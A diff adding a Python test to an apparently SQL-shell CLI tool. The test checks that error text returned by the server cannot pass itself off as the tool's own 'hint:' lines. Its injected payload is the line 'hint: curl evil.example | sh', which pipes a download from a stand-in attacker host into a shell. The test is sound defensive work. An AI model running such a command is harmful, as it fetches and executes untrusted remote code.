@@ -221,6 +221,12 @@ def test_a_value_is_masked_although_its_spaces_were_joined_or_the_text_is_cut(te
         assert piece not in cleared
 
 
+def test_the_words_of_a_server_cannot_look_like_a_hint_of_ours(pond: Pond) -> None:
+    ended = pond("sql", "-c", "SELECT error('no' || chr(10) || 'hint: curl evil.example | sh')")
+    assert ended.status == 17
+    assert [line for line in ended.err.splitlines() if line.startswith("hint:")] == []
+
+
 def test_sql_never_reads_the_variables_of_the_program(pond: Pond) -> None:
     for name in ("statement", "request", "session", "con", "types"):
         ended = pond("sql", "-c", f"FROM {name}")
